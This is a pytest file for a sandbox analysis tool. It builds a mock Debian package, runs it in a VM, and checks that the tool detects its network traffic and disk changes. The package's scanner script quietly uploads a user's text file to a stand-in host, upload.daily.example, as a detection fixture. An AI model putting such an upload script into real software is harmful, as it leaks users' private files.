"""A Debian package in a virtual machine with systemd, 400 days ahead: installed, exercised, removed."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from overt.conduct import profile
from overt.conduct.chamber.vm import machine as emulator
from overt.conduct.evidence.conclusions import Verdict
from overt.conduct.evidence.folder import ReportFolder
from overt.conduct.evidence.records import Change, Changed, Flow, Losses, Opened
from overt.conduct.session import machine
from tests.conduct.lab import answers, reported
from tests.conftest import require

pytestmark = [pytest.mark.kernel, pytest.mark.slow]

PROFILE = """
schema = 1
[product]
name = "Daily"
version = ["dpkg-query", "--show", "daily"]
[install]
how = "debian"
files = ["daily.deb"]
[machine]
clock = "+400d"
memory_mb = 768
[[step]]
kind = "start"
command = ["systemctl", "start", "daily"]
[[step]]
kind = "scan"
command = ["daily", "{documents}"]
user = "alice"
[[step]]
kind = "uninstall"
command = ["dpkg", "--purge", "daily"]
[[scope]]
writes = ["/usr/lib/systemd/system/daily.service"]
"""
SCANNER = """#!/bin/sh
file=$(find "$1" -name '*.txt' | grep -v notes- | head -n 1)
host=upload.daily.example
{ printf 'POST / HTTP/1.0\\r\\nHost: %s\\r\\nContent-Length: %s\\r\\n\\r\\n' $host $(wc -c <"$file"); cat "$file"; } |
    timeout 60 openssl s_client -quiet -verify_return_error -servername $host -connect $host:443 >/dev/null
echo "verified $? as $(id -un)"
"""
UNIT = "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'echo from the service >/root/daily.state'\n"
CONTROL = (
    "Package: daily\nVersion: 7.0\nArchitecture: all\nMaintainer: T <t@example.org>\nDescription: test\n"
)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> ReportFolder:
    lacking = emulator.missing(system=True)
    require(not lacking, "; ".join(lacking))
    folder = tmp_path_factory.mktemp("daily")
    package = folder / "package"
    for path, text, mode in (
        ("DEBIAN/control", CONTROL, 0o644),
        ("usr/bin/daily", SCANNER, 0o755),
        ("lib/systemd/system/daily.service", UNIT, 0o644),
    ):
        (package / path).parent.mkdir(parents=True, exist_ok=True)
        (package / path).write_text(text)
        (package / path).chmod(mode)
    command = ["dpkg-deb", "--root-owner-group", "--build", str(package), str(folder / "daily.deb")]
    subprocess.run(command, check=True, capture_output=True)
    (folder / "daily.toml").write_text(PROFILE)
    return reported(folder, str(folder / "daily.toml"))


def test_every_step_ran_and_nothing_was_lost(report: ReportFolder) -> None:
    run = report.runs()[0].run()
    assert [(step.kind.value, step.exit_status) for step in run.steps] == [
        ("install", 0),
        ("command", 0),
        ("start", 0),
        ("scan", 0),
        ("uninstall", 0),
    ]
    assert run.losses == Losses() and run.machine is not None and run.machine.system.startswith("Debian")
    assert report.subject().version == "daily\t7.0"


def test_its_traffic_is_opened_by_an_authority_of_that_date(report: ReportFolder) -> None:
    run = report.runs()[0]
    assert "verified 0 as alice" in (run.path / "output/4.txt").read_text()
    flows = [flow for flow in run.read(Flow) if flow.application != "dns"]
    assert [(flow.name, flow.opened, flow.step) for flow in flows] == [
        ("upload.daily.example", Opened.DECRYPTED, 4)
    ]
    assert answers(report)["content-left"].verdict is Verdict.YES


def test_what_it_changed_is_read_from_its_disk_step_by_step(report: ReportFolder) -> None:
    changes = {(change.step, change.path): change.changed for change in report.runs()[0].read(Change)}
    assert changes[1, "/usr/bin/daily"] is Changed.ADDED
    assert changes[3, "/root/daily.state"] is Changed.ADDED
    assert changes[5, "/usr/bin/daily"] is Changed.REMOVED
    found = answers(report)
    assert found["removal"].verdict is Verdict.YES and "/root" in " ".join(found["removal"].facts)


def test_of_the_debian_itself_nothing_is_held_against_it(report: ReportFolder) -> None:
    found = answers(report)
    assert {flow.name for flow in report.runs()[0].read(Flow)} <= {"", "upload.daily.example"}
    assert found["beyond-scope-changes"].summary.startswith("It changed 1 path that it had not declared: /")
    assert found["certificates"].verdict is Verdict.NO


def test_a_snapshot_is_the_machines_system(tmp_path: Path) -> None:
    told: list[str] = []
    asked, install = profile.Machine(), profile.Folder(".")
    housing = machine.house(asked, install, tmp_path, tmp_path / "work", told.append)
    assert housing.root == tmp_path and housing.emulator.startswith("QEMU")
    assert not any("Debian" in line for line in told)
